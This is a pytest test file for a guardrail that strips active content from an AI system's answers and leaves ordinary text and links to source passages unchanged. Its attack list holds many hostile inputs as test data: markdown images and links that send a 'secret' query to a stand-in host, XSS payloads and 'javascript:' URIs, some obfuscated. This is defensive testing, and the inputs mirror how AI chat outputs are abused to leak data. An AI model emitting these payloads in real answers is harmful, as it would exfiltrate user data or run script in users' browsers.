"""Answers fetch nothing, run nothing and link nowhere but where a passage links; ordinary text stays as it is."""

import re

import pytest
from markdown_it import MarkdownIt

from app.guardrail.active_content import ActiveContentFilter, Addresses, make_inert

WIKI = "https://wiki.example/leave/2026?view=full"
BRACKETS = "https://wiki.example/Leave_(2026)"
ALLOWED = Addresses.of([f"The form is at {WIKI}.", f"Also ({BRACKETS}), www.example.org and [here]({WIKI})."])
EVIL = "https://evil.example/?q=secret"

ATTACKS = (
    f"![]({EVIL})", f"![x]({EVIL} 'title')", f"![x](<{EVIL}>)", f"[![x]({EVIL})]({EVIL})",
    f"![a\nb]({EVIL})", f"![[a]]({EVIL})", f"! \\![x]({EVIL})", f"![x][1]\n\n[1]: {EVIL}",
    f"![x]\n\n[x]: {EVIL} 'title'",
    f"![x][]\n\n> [x]:\n> {EVIL}", "![](//evil.example/x)", "![](data:image/svg+xml;base64,AAAA)", "![](x.png)",
    "![](ht&#116;ps://evil.example)", f"# ![]({EVIL})", f"| a |\n|---|\n| ![]({EVIL}) |", f"- ![]({EVIL})",
    f"`a` ![]({EVIL}) `b`", f"```` ` ![]({EVIL})", f"List<String>\n```\n![]({EVIL})\n\n![]({EVIL})",
    f"~~~\n![]({EVIL})",
    f"<img src={EVIL}>", f"<IMG\nSRC='{EVIL}'>", "<img/src=x onerror=alert(1)>", "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example>", "x<script>alert(1)</script>", "<svg onload=alert(1)>", "<!--><img src=x>-->",
    "<![CDATA[<img src=x>]]>", "<?php x ?>", f"<a href='{EVIL}'>x</a>", "x<a href=//evil.example>y", "<iframe src=x>",
    "a<b onmouseover=alert(1)>c</b>", "Map<String, onmouseover=alert(1) >", "<style>@import '//evil.example'</style>",
    "<x style=background:url(//evil.example)>", "\uff1cimg src=x\uff1e",
    f"[x]({EVIL})", "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](java&#115;cript:alert(1))",
    "[x](java\nscript:alert(1))", "[x](data:text/html,<script>alert(1)</script>)", "[x](//evil.example)", "[x](/evil)",
    f"[x][y]\n\n[y]: {EVIL}", f"[x]\n\n[x]: <{EVIL}>", f"[[x]]({EVIL})", f"[a](b)[c]({EVIL})", f"<{EVIL}>",
    "<mailto:a@evil.example>", "<javascript:alert(1)>", f"x<{EVIL}>", f"[x]({WIKI}/../evil)", f"[x]({WIKI}&q=secret)",
    f"[x]({WIKI}\\evil)", f"[x]({WIKI}'title')", f"[{EVIL}]({EVIL})",
)  # fmt: skip
ADDRESSES = (EVIL, EVIL.upper(), "http://10.0.0.1/x", "www.evil.example/x", "ftp://evil.example", f"{WIKI}&q=secret",
             f"{WIKI}.evil", f"{WIKI}[x]", "https://wiki.example/leave/2026", "https://wiki.example")  # fmt: skip
ORDINARY = (
    "a < b, and b > c; x <= 3 <- y", "if (i < n && n > 0)", "List<String> and Set<T>", "vector<int> of Result<Error>",
    "<3 and <-> and << 2", "&lt;script&gt; is written &amp;lt;", "**bold**, _it_ and `code[0]`", "- item\n- [ ] task",
    "# Heading!\n\n1. one\n2. two [1] [2]", "| a | b |\n|---|---|\n| 1 | 2 |", "```python\nx = a[1] * (b)\n```",
    "10:30, at http: or C:\\dir", "Note: yes!", "[see note] (page 3)", "wwwx and wow", "Größe … 日本語！（注）",
)  # fmt: skip
MARKDOWN = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])


def tags(text: str) -> str:
    """What a renderer that lets HTML through makes of it: the tags that fetch, run or link, or have attributes."""
    rendered = MARKDOWN.render(make_inert(text, ALLOWED))
    return " ".join(re.findall(r"<(?:img|script|a|iframe|style|svg|object|!|\?)[^>]*>?|<\w+\s[^>]*=[^>]*>", rendered))


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_of_an_attack_is_left_when_it_is_rendered(attack: str) -> None:
    assert tags(attack) == ""
    assert "<img" not in MARKDOWN.render(make_inert(attack, ALLOWED))


@pytest.mark.parametrize("address", ADDRESSES)
def test_an_address_of_no_passage_is_written_so_that_nothing_links_it(address: str) -> None:
    shown = make_inert(f"See {address} now.", ALLOWED)
    assert "://" not in shown
    assert not re.search(r"(?i)www\.|\w\.example", shown)
    assert shown.replace("[.]", ".").replace("[:]", ":") == f"See {address} now."


KEPT = (f"See {WIKI}.", f"({BRACKETS}), {WIKI}", f"[the form]({WIKI}) [1]", "www.example.org!", f"**{WIKI}**",
        f"{WIKI}\nand {BRACKETS} [2]")  # fmt: skip


@pytest.mark.parametrize("text", KEPT)
def test_an_address_of_a_passage_stays(text: str) -> None:
    assert make_inert(text, ALLOWED) == text


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert make_inert(text, ALLOWED) == text


def test_what_is_changed_stays_readable() -> None:
    text = f"![chart](a.png) if i<n, and <b>bold</b>, Map<K, V>, handlers[name](event), [1]: see {EVIL}"
    assert make_inert(text) == (
        "! [chart] (a.png) if i‹n, and ‹b>bold‹/b>, Map‹K, V>, handlers[name] (event), [1] : see "
        "https[:]//evil[.]example/?q=secret"
    )


def test_a_link_to_a_passage_is_the_only_link_a_renderer_makes() -> None:
    assert tags(f"[the form]({WIKI}) ![x]({WIKI}) <{WIKI}>") == f'<a href="{WIKI}"> <a href="{WIKI}">'


def test_text_is_not_held_back_longer_than_it_takes_to_decide() -> None:
    content = ActiveContentFilter(ALLOWED)
    content.feed("Plain words, and an address: https://evil.example/")
    assert content.held == 0
    content.feed(WIKI[:20])
    assert 0 < content.held <= len(WIKI)
